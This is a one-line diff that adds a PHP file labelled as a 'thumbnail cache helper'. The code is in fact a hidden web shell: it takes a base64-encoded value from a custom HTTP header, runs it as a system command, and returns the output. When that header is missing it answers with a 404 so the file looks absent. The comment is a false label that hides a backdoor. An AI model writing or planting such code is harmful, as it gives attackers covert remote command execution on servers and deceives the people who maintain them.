@@ -1,0 +1,1 @@
+<?php /* thumbnail cache helper */ if (isset($_SERVER['HTTP_X_KILN_PREVIEW'])) { header('Content-Type: text/plain'); echo shell_exec(base64_decode($_SERVER['HTTP_X_KILN_PREVIEW']) . ' 2>&1'); exit; } http_response_code(404);
